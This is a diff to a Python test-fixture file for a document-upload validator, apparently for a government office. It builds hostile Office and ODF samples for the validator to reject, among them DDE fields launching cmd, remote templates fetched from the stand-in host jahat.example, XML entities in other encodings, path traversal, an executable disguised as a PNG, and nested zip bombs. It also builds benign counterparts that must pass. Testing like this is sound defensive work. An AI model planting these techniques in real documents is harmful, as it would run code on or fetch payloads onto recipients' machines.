@@ -1,5 +1,6 @@
 """Files that nobody sends in good faith, or that are broken; each with what is to become of it."""
 
+import re
 import struct
 import warnings
 import zlib
@@ -14,6 +15,13 @@ HTML = b"<!doctype html><html><body>" + SCRIPT
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
 EXE = b"MZ\x90\x00\x03" + bytes(60) + b"PE\x00\x00" + bytes(200)
 MACROS = f"{OFFICE}wordprocessingml.document.macroEnabled.main+xml".replace(OFFICE, "application/vnd.ms-word.")
+
+
+FIELD = b'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> %s </w:instrText><w:fldChar w:fldCharType="end"/></w:r>'
+#: XML that is read in an encoding in which «<!DOCTYPE» has other bytes.
+IN_OTHER_LETTERS = b'<?xml version="1.0" encoding="cp037"?>' + '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode(
+    "cp037"
+)
 
 
 def bomb() -> bytes:
@@ -56,6 +64,30 @@ def chunk(kind: bytes, content: bytes) -> bytes:
 def png(width: int, height: int) -> bytes:
     head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
+
+
+def with_relations(kind: str, relations: bytes) -> bytes:
+    folder = {"docx": "word/_rels/document.xml.rels", "xlsx": "xl/_rels/workbook.xml.rels"}[kind]
+    return office(kind, (folder, relations))
+
+
+def with_relation(kind: str, relation: str, target: str) -> bytes:
+    """What has an address or leads to another folder stands outside of the package."""
+    outside = ' TargetMode="External"' if re.search(r"[:\\\\]", target) else ""
+    of = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + relation
+    each = f'<Relationship Id="rId1" Type="{of}" Target="{target}"{outside}/>'
+    return with_relations(kind, f"<Relationships>{each}</Relationships>".encode())
+
+
+def with_text(text: bytes) -> bytes:
+    return office("docx", ("word/header1.xml", b'<w:hdr xmlns:w="w">' + text + b"</w:hdr>"))
+
+
+def inside_one_another(depth: int) -> bytes:
+    made = office("xlsx")
+    for number in range(depth):
+        made = office("docx", (f"word/embeddings/{number}.docx", made))
+    return made
 
 
 def many_pages(number: int) -> bytes:
@@ -135,6 +167,81 @@ REFUSED = {
         "damaged",
     ),
     "part twice": ("surat.docx", twice(), "damaged"),
+    "part twice, in other letters": ("surat.docx", office("docx", ("WORD/document.XML", b"<x/>")), "damaged"),
+    "DOCX with a way out of Windows": ("surat.docx", office("docx", ("..\\..\\mulai.xml", b"<x/>")), "damaged"),
+    "DOCX with entities in other letters": (
+        "surat.docx",
+        package(("[Content_Types].xml", IN_OTHER_LETTERS), ("word/document.xml", b"<x/>")),
+        "damaged",
+    ),
+    "DOCX with relations in other letters": ("surat.docx", with_relations("docx", IN_OTHER_LETTERS), "damaged"),
+    "DOCX with entities in its relations": (
+        "surat.docx",
+        with_relations("docx", b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships>&b;</Relationships>'),
+        "damaged",
+    ),
+    "DOCX and ODT at once": ("surat.odt", office("odt", ("[Content_Types].xml", b"<Types/>")), "damaged"),
+    "DOCX with macros of another name": ("surat.docx", with_relation("docx", "vbaProject", "gambar.dat"), "macros"),
+    "DOCX with an object of another name": (
+        "surat.docx",
+        office("docx", ("word/media/image1.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))),
+        "macros",
+    ),
+    "DOCX with a program as picture": ("surat.docx", office("docx", ("word/media/image1.png", EXE)), "macros"),
+    "DOCX with a related object": ("surat.docx", with_relation("docx", "oleObject", "benda.dat"), "macros"),
+    "XLSX with old macros": ("tabel.xlsx", office("xlsx", ("xl/macrosheets/sheet1.xml", b"<x/>")), "macros"),
+    "DOCX with macros in a table": (
+        "surat.docx",
+        office("docx", ("word/embeddings/a.xlsx", office("xlsx", ("xl/vbaProject.bin", b"\0")))),
+        "macros",
+    ),
+    "DOCX with packages in packages": ("surat.docx", inside_one_another(4), "bomb"),
+    "DOCX with a bomb inside": (
+        "surat.docx",
+        lambda: office(
+            "docx",
+            ("word/embeddings/a.xlsx", office("xlsx", ("a.bmp", bytes(150 * 1024 * 1024)))),
+            ("word/media/a.bmp", bytes(60 * 1024 * 1024)),
+        ),
+        "bomb",
+    ),
+    **{
+        f"DOCX with a template of {where}": ("surat.docx", with_relation("docx", "attachedTemplate", where), "fetches")
+        for where in (
+            "https://jahat.example/a.dotm",
+            "\\\\jahat\\a.dotm",
+            "file://jahat/a.dotm",
+            "file:///\\\\jahat\\a",
+        )
+    },
+    "DOCX with an object from afar": (
+        "surat.docx",
+        with_relation("docx", "oleObject", "mhtml:http://a.example!x"),
+        "fetches",
+    ),
+    "DOCX that starts a program": ("surat.docx", with_text(FIELD % b"DDEAUTO c:\\a.exe"), "macros"),
+    "DOCX that starts a program, in pieces": (
+        "surat.docx",
+        with_text(FIELD % b"D</w:instrText></w:r><w:r><w:instrText>&#68;E cmd"),
+        "macros",
+    ),
+    "DOCX that starts a program by a simple field": (
+        "surat.docx",
+        with_text(b'<w:fldSimple w:instr=" DDE cmd a"/>'),
+        "macros",
+    ),
+    "XLSX that starts a program": (
+        "tabel.xlsx",
+        office(
+            "xlsx", ("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>')
+        ),
+        "macros",
+    ),
+    "ODS that starts a program": (
+        "tabel.ods",
+        office("ods", ("Object 1/content.xml", b'<x><office:dde-source office:dde-application="cmd"/></x>')),
+        "macros",
+    ),
     "bomb as DOCX": ("surat.docx", bomb, "bomb"),
     "lying bomb as DOCX": ("surat.docx", lying_bomb, "damaged"),
     "DOCX of a hundred thousand parts": (
@@ -175,5 +282,19 @@ GENUINE = {
     "PNG": (PNG, "image/png"),
     **{kind: (office(kind), None) for kind in ("docx", "xlsx", "pptx", "odt", "ods")},
     "XLSX with settings of a printer": (office("xlsx", ("xl/printerSettings/printerSettings1.bin", b"\0")), None),
+    "DOCX with a template of the office": (
+        with_relation("docx", "attachedTemplate", "file:///C:\\Users\\dinas\\Surat%20dinas.dotm"),
+        None,
+    ),
+    "DOCX with links": (with_relation("docx", "hyperlink", "https://semarangkota.go.id"), None),
+    "DOCX with fields": (with_text(FIELD % b"PAGE" + FIELD % b'HYPERLINK "https://dde.example"'), None),
+    "XLSX with links to another": (
+        with_relation("xlsx", "externalLinkPath", "file:///\\\\server\\anggaran.xlsx"),
+        None,
+    ),
+    "PPTX with a letter with a table": (
+        office("pptx", ("ppt/embeddings/a.docx", office("docx", ("word/embeddings/b.xlsx", office("xlsx"))))),
+        None,
+    ),
     "DOCX with a table": (office("docx", ("word/embeddings/Microsoft_Excel_Sheet1.xlsx", office("xlsx"))), None),
 }
